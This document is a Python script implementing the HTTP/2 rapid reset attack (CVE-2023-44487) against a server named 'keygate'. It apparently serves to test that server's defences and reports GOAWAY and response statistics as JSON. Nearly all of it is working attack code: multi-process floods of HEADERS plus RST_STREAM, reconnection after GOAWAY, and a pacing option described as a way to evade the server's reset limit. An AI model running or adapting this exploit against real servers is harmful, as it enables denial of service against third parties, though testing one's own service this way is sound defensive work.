#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against keygate: HEADERS then RST_STREAM at once, in a
tight loop, on h2c connections (prior knowledge), with python3-h2 (apt-get install -y python3-h2;
use /usr/bin/python3 if a pyenv python is first on PATH).

Each of --procs processes opens a connection and, in batches of --batch streams per write, sends
for each new stream a complete request (HEADERS with END_STREAM: POST --path with --key) and
immediately a RST_STREAM(CANCEL) for it, until keygate closes the connection (GOAWAY or EOF) or
--streams-per-conn are sent; then it opens the next connection, until --duration is over. So
the attack goes on after a GOAWAY, as a real one would.

Prints one JSON object: connections, streams sent (= resets sent), their rate, GOAWAYs by error
code with the streams sent before each (our count, and the server's last_stream_id), closes
without GOAWAY, and responses (HEADERS) keygate still sent for streams it had started before the
reset arrived.

--gap-ms paces the batches instead (a sleep after each write): an attacker that stays under
keygate's limit of resets waiting to be accepted gets its streams all the way to the handlers.

  rapid_reset.py --port P --key KEY [--host 127.0.0.1] [--path /v1/rapid-reset] [--procs 1]
                 [--duration 20] [--batch 100] [--gap-ms 0] [--streams-per-conn 0 (unlimited)]
"""

import argparse
import json
import multiprocessing
import select
import socket
import statistics
import time
from collections import Counter

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def pump(sock, conn, stats, wait=0.0):
    """Reads whatever the server sent (waiting up to WAIT s for the first bytes), feeds it to the
    connection and handles the events. Returns False once the connection is over."""
    while True:
        ready, _, _ = select.select([sock], [], [], wait)
        if not ready:
            return True
        wait = 0.0
        try:
            data = sock.recv(1 << 16)
        except (ConnectionResetError, BrokenPipeError):
            stats["closed"] = "reset"
            return False
        if not data:
            stats["closed"] = stats.get("closed") or "eof"
            return False
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            stats["closed"] = f"protocol_error: {e}"
            return False
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                stats["goaway"] = {
                    "error_code": getattr(ev.error_code, "name", str(ev.error_code)),
                    "last_stream_id": ev.last_stream_id,
                    "debug": (ev.additional_data or b"").decode("latin-1"),
                    "after_streams": stats["streams"],
                    "after_s": round(time.monotonic() - stats["t0"], 3),
                }
            elif isinstance(ev, h2.events.ResponseReceived):
                stats["responses"] += 1
                status = dict(ev.headers).get(b":status", b"?").decode()
                stats["statuses"][status] = stats["statuses"].get(status, 0) + 1
            elif isinstance(ev, h2.events.StreamReset):
                stats["server_resets"] += 1
            elif isinstance(ev, h2.events.DataReceived):
                try:
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                except h2.exceptions.H2Error:
                    pass
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                stats["closed"] = "reset"
                return False
        if "goaway" in stats:
            return False


def one_connection(args, deadline):
    stats = {"streams": 0, "responses": 0, "server_resets": 0, "statuses": {},
             "t0": time.monotonic()}
    sock = socket.create_connection((args.host, args.port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    config = h2.config.H2Configuration(
        client_side=True, header_encoding=None,
        validate_outbound_headers=False, normalize_outbound_headers=False,
        validate_inbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", args.path.encode()),
        (b":authority", f"{args.host}:{args.port}".encode()),
        (b"authorization", f"Bearer {args.key}".encode()),
        (b"content-type", b"application/json"),
    ]
    alive = pump(sock, conn, stats, wait=1.0)
    limit = args.streams_per_conn or float("inf")
    while alive and stats["streams"] < limit and time.monotonic() < deadline:
        try:
            for _ in range(args.batch):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                stats["streams"] += 1
        except h2.exceptions.H2Error as e:
            stats["closed"] = f"h2: {e}"
            break
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            stats["closed"] = "reset"
            alive = pump(sock, conn, stats, wait=0.5)  # a GOAWAY may be waiting
            break
        alive = pump(sock, conn, stats)
        if args.gap_ms:
            time.sleep(args.gap_ms / 1000)
    if alive and "goaway" not in stats:
        # Give a GOAWAY in flight a moment to arrive.
        pump(sock, conn, stats, wait=0.2)
    sock.close()
    stats["seconds"] = round(time.monotonic() - stats.pop("t0"), 3)
    return stats


def worker(args):
    deadline = time.monotonic() + args.duration
    conns = []
    while time.monotonic() < deadline:
        try:
            conns.append(one_connection(args, deadline))
        except OSError as e:
            conns.append({"streams": 0, "responses": 0, "server_resets": 0, "statuses": {},
                          "closed": f"connect: {e}", "seconds": 0})
            time.sleep(0.1)
    return conns


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--key", required=True)
    ap.add_argument("--path", default="/v1/rapid-reset")
    ap.add_argument("--procs", type=int, default=1)
    ap.add_argument("--duration", type=float, default=20)
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--gap-ms", type=float, default=0)
    ap.add_argument("--streams-per-conn", type=int, default=0)
    args = ap.parse_args()

    started = time.monotonic()
    if args.procs == 1:
        results = [worker(args)]
    else:
        with multiprocessing.Pool(args.procs) as pool:
            results = pool.map(worker, [args] * args.procs)
    elapsed = time.monotonic() - started
    conns = [c for r in results for c in r]
    streams = sum(c["streams"] for c in conns)
    goaways = [c["goaway"] for c in conns if "goaway" in c]
    statuses = Counter()
    for c in conns:
        statuses.update(c["statuses"])
    before = [g["after_streams"] for g in goaways]
    server_seen = [(g["last_stream_id"] + 1) // 2 for g in goaways]
    print(json.dumps({
        "connections": len(conns),
        "streams": streams,
        "streams_per_s": round(streams / elapsed),
        "seconds": round(elapsed, 2),
        "goaways": len(goaways),
        "goaway_codes": dict(Counter(f"{g['error_code']} {g['debug']}".strip() for g in goaways)),
        "streams_sent_before_goaway": summary(before),
        "streams_server_processed_before_goaway": summary(server_seen),
        "seconds_to_goaway": summary([g["after_s"] for g in goaways]),
        "closed_without_goaway": dict(Counter(c.get("closed", "by us (limit or deadline)")
                                              for c in conns if "goaway" not in c)),
        "responses": sum(c["responses"] for c in conns),
        "response_statuses": dict(statuses),
        "server_resets": sum(c["server_resets"] for c in conns),
    }))


def summary(xs):
    if not xs:
        return None
    return {"min": min(xs), "median": statistics.median(xs), "max": max(xs)}


if __name__ == "__main__":
    main()
